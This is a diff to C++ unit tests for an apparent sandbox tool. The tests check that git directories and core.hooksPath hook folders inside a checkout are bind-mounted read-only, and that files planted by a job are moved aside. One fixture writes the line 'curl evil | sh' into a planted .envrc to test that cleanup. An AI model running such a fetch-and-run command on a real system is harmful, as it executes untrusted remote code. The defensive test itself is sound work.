@@ -91,7 +91,8 @@ TEST_F(WorkspaceTest, ProtectBindsPresentPathsAndWatchesTheRest) {
   std::vector<ProtectedPath> paths;
   std::vector<cli::MountRequest> mounts;
   std::vector<std::string> notes;
-  Protect({dir_ + "/p", "/work", false, {"tools/hooks"}, {".vscode"}}, &paths, &mounts, &notes);
+  Protect({dir_ + "/p", "/work", false, {"tools/hooks"}, {".vscode"}, {}, ""}, &paths, &mounts,
+          &notes);
   EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.git", "/work/.git"));
   EXPECT_FALSE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.vscode", "/work/.vscode"));
   auto find = [&](const std::string& rel) -> const ProtectedPath* {
@@ -112,7 +113,7 @@ TEST_F(WorkspaceTest, ProtectBindsPresentPathsAndWatchesTheRest) {
 
   paths.clear();
   mounts.clear();
-  Protect({dir_ + "/p", "/work", true, {}, {}}, &paths, &mounts, &notes);
+  Protect({dir_ + "/p", "/work", true, {}, {}, {}, ""}, &paths, &mounts, &notes);
   EXPECT_EQ(find(".git"), nullptr);  // --workspace-vcs rw
 }
 
@@ -125,7 +126,7 @@ TEST_F(WorkspaceTest, LinkedWorktreeGetsItsGitDirectoriesReadOnly) {
   std::vector<ProtectedPath> paths;
   std::vector<cli::MountRequest> mounts;
   std::vector<std::string> notes;
-  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}}, &paths, &mounts, &notes);
+  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
   EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/wt/.git", dir_ + "/wt/.git"));
   EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/main/.git", dir_ + "/main/.git"));
   EXPECT_TRUE(notes.empty());
@@ -134,7 +135,7 @@ TEST_F(WorkspaceTest, LinkedWorktreeGetsItsGitDirectoriesReadOnly) {
   Mkdir("other/.git");
   Write("wt/.git", "gitdir: " + dir_ + "/other/.git\n");
   mounts.clear();
-  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}}, &paths, &mounts, &notes);
+  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
   EXPECT_FALSE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/other/.git", dir_ + "/other/.git"));
   ASSERT_EQ(notes.size(), 1u);
 }
@@ -147,16 +148,65 @@ TEST_F(WorkspaceTest, SubmodulesDotGitIsProtected) {
   std::vector<ProtectedPath> paths;
   std::vector<cli::MountRequest> mounts;
   std::vector<std::string> notes;
-  Protect({dir_ + "/p", dir_ + "/p", false, {}, {}}, &paths, &mounts, &notes);
+  Protect({dir_ + "/p", dir_ + "/p", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
   EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/third/lib/.git",
                   dir_ + "/p/third/lib/.git"));
+}
+
+// core.hooksPath inside the checkout (husky's .husky/_, a project's .githooks) is where git
+// runs hooks from: protected like .git/hooks, from the repository's config or the caller's.
+TEST_F(WorkspaceTest, HooksPathInsideTheCheckoutIsProtected) {
+  Mkdir("p/.git");
+  Mkdir("p/.githooks");
+  Mkdir("p/tools/hooks");
+  Mkdir("home");
+  Write("p/.git/config",
+        "[core]\n\trepositoryformatversion = 0\n\tHooksPath = \"./.githooks/\" # local\n"
+        "[core \"x\"]\n\thookspath = not-core\n");
+  Write("home/.gitconfig", "[user]\nname = a\n[core] hooksPath = ~/../p/tools/hooks\n");
+  Write("global",
+        "[core]\nhooksPath = ../outside\nhooksPath = /etc/hooks\n"
+        "hooksPath = .git/hooks\nhooksPath = later\n");
+  std::vector<ProtectedPath> paths;
+  std::vector<cli::MountRequest> mounts;
+  std::vector<std::string> notes;
+  Protect({dir_ + "/p",
+           "/work",
+           false,
+           {},
+           {},
+           {dir_ + "/home/.gitconfig", dir_ + "/global"},
+           dir_ + "/home"},
+          &paths, &mounts, &notes);
+  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.githooks", "/work/.githooks"));
+  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/tools/hooks", "/work/tools/hooks"));
+  std::vector<std::string> hooks;
+  for (const ProtectedPath& p : paths) {
+    if (p.reason == "hooks") hooks.push_back(p.path.substr(dir_.size()));
+  }
+  // "later" is absent: watched. Outside, climbing and already-protected values add nothing.
+  EXPECT_EQ(hooks, (std::vector<std::string>{"/p/.githooks", "/p/tools/hooks", "/p/later"}));
+  EXPECT_TRUE(notes.empty());
+
+  // --workspace-vcs rw leaves hooks as writable as .git; --unprotect leaves one.
+  paths.clear();
+  Protect({dir_ + "/p", "/work", true, {}, {}, {dir_ + "/global"}, ""}, &paths, &mounts, &notes);
+  for (const ProtectedPath& p : paths) EXPECT_NE(p.reason, "hooks") << p.path;
+  paths.clear();
+  Protect({dir_ + "/p", "/work", false, {}, {"later"}, {dir_ + "/global"}, ""}, &paths, &mounts,
+          &notes);
+  hooks.clear();
+  for (const ProtectedPath& p : paths) {
+    if (p.reason == "hooks") hooks.push_back(p.path.substr(dir_.size()));
+  }
+  EXPECT_EQ(hooks, std::vector<std::string>{"/p/.githooks"});
 }
 
 TEST_F(WorkspaceTest, PlantedPathsAreMovedAsideAfterTheRun) {
   std::string p = Mkdir("p");
   Layout layout;
   std::vector<cli::MountRequest> mounts;
-  Protect({p, p, false, {}, {}}, &layout.protected_paths, &mounts, &layout.notes);
+  Protect({p, p, false, {}, {}, {}, ""}, &layout.protected_paths, &mounts, &layout.notes);
   Mkdir("p/.git/hooks");  // the job made the checkout a repository
   Write("p/.envrc", "curl evil | sh\n");
   auto moved = MoveAsidePlanted(layout, "run1");
